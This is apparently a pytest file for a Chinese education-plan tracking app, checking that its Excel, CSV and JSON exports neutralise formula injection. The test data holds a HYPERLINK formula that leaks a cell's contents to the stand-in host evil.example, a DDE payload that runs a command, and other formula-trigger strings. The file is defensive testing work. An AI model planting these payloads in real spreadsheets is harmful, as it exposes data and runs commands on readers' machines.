"""Every exporter writes text as text: no cell of a workbook is a formula, no CSV field reads as one."""

from __future__ import annotations

import csv
import io
import json

from openpyxl import Workbook, load_workbook

from duban.ingest import parse
from duban.plans.services import plan_import
from duban.reports.data import LedgerPlan, LedgerSection
from duban.reports.exports import export_render
from duban.reports.ledger import ledger_xlsx
from duban.reports.matrix import matrix_xlsx
from duban.reports.sheets import FORMULA_TRIGGERS
from duban.reports.tabular import CSV_TABLES, plan_csv, plan_json
from duban.reports.tests.factories import TODAY, make_ledger_task
from duban.test import Personas
from duban.tracking.services.reports import report_approve, report_save
from duban.tracking.tests.helpers import TODAY as TRACKING_TODAY
from duban.tracking.tests.helpers import published_plan, task

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
DDE = '=cmd|"/c calc"!A1'
ATTACKS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(content: bytes) -> list[tuple[object, str]]:
    """Every non-empty cell's value and type, read as Excel would (formulas kept as formulas)."""
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book for row in s.iter_rows() for c in row if c.value is not None]


def csv_fields(content: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for field in row]


def assert_text_only(content: bytes, texts: list[str]) -> None:
    found = cells(content)
    assert [v for v, kind in found if kind == "f"] == []
    values = {v for v, _ in found}
    missing = [t for t in texts if t not in values]
    assert missing == []


def assert_neutralised(content: bytes, texts: list[str]) -> None:
    fields = csv_fields(content)
    assert [f for f in fields if f.startswith(FORMULA_TRIGGERS)] == []
    assert {"'" + t for t in texts} <= set(fields)


def attack_ledger() -> LedgerPlan:
    tasks = [
        make_ledger_task(
            n,
            text=attack,
            lead_units=[attack if n % 2 else "基础教育处"],
            support_units=[DDE],
            report_text=attack,
        )
        for n, attack in enumerate(ATTACKS, start=1)
    ]
    return LedgerPlan(
        title="2025年全市教育工作任务分解方案", as_of=TODAY, sections=[LedgerSection("一", "重点任务", tasks)]
    )


def test_no_exporter_writes_a_text_that_begins_like_a_formula_as_one():
    plan = attack_ledger()

    assert_text_only(ledger_xlsx(plan), ATTACKS)
    assert_text_only(matrix_xlsx(plan), ATTACKS)
    assert_neutralised(plan_csv(plan, "tasks"), ATTACKS)
    for table in CSV_TABLES:
        assert [f for f in csv_fields(plan_csv(plan, table)) if f.startswith(FORMULA_TRIGGERS)] == []
    # JSON is read by programs, not spreadsheets: the texts stay exactly as written.
    assert [t["text"] for t in json.loads(plan_json(plan))["tasks"]] == ATTACKS


def test_a_liaisons_report_text_reaches_the_ledger_and_csv_as_text_once_approved(personas: Personas):
    plan = published_plan(personas, tasks=3)
    report = report_save(
        task=task(plan, 1),
        unit=personas.basic_ed,
        by=personas.liaison,
        text=HYPERLINK,
        progress=30,
        submit=True,
        today=TRACKING_TODAY,
    )
    report_approve(report=report, by=personas.supervisor)

    ledger = export_render(plan=plan, kind="ledger", today=TRACKING_TODAY).content
    assert_text_only(ledger, [HYPERLINK])
    assert_neutralised(
        export_render(plan=plan, kind="csv", table="tasks", today=TRACKING_TODAY).content, [HYPERLINK]
    )
    assert_neutralised(
        export_render(plan=plan, kind="csv", table="reports", today=TRACKING_TODAY).content, [HYPERLINK]
    )
    # The ledger still reads back whole: a formula cell would come back empty and lose its row.
    assert len(parse(ledger, filename="台账.xlsx").tasks) == 3


def attack_document() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "一、重点任务"
    rows = [
        ["2025年全市教育工作任务分解方案"],
        ["序号", "主要工作", "牵头单位", "责任单位", "完成时限"],
        ["1", HYPERLINK, DDE, "计财处", "2025年12月底前"],
        ["2", "+推进集团化办学", "@SUM(1+1)", "-基础教育处", "2025年6月底前"],
        ["3", "-1+1 开展督导", "办公室", "", "2025年9月底前"],
    ]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            sheet.cell(row=r, column=c, value=value).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_imported_task_texts_and_unit_names_come_out_as_text_and_the_ledger_reads_back_the_same(
    personas: Personas,
):
    plan = plan_import(organization=personas.org, content=attack_document(), filename="方案.xlsx").plan
    units = sorted({u.unit.name for t in plan.tasks.all() for u in t.task_units.select_related("unit")})
    texts = [t.text for t in plan.tasks.order_by("position")]
    assert texts[0] == HYPERLINK and "@SUM(1+1)" in units and "-基础教育处" in units

    ledger = export_render(plan=plan, kind="ledger", today=TODAY).content
    assert_text_only(ledger, texts)
    assert_text_only(export_render(plan=plan, kind="matrix", today=TODAY).content, [*texts, *units])
    assert_neutralised(export_render(plan=plan, kind="csv", today=TODAY).content, texts)

    back = parse(ledger, filename="台账.xlsx")
    assert [t.text for t in back.tasks] == texts
    assert sorted({u for t in back.tasks for u in (*t.lead_units, *t.support_units)}) == units
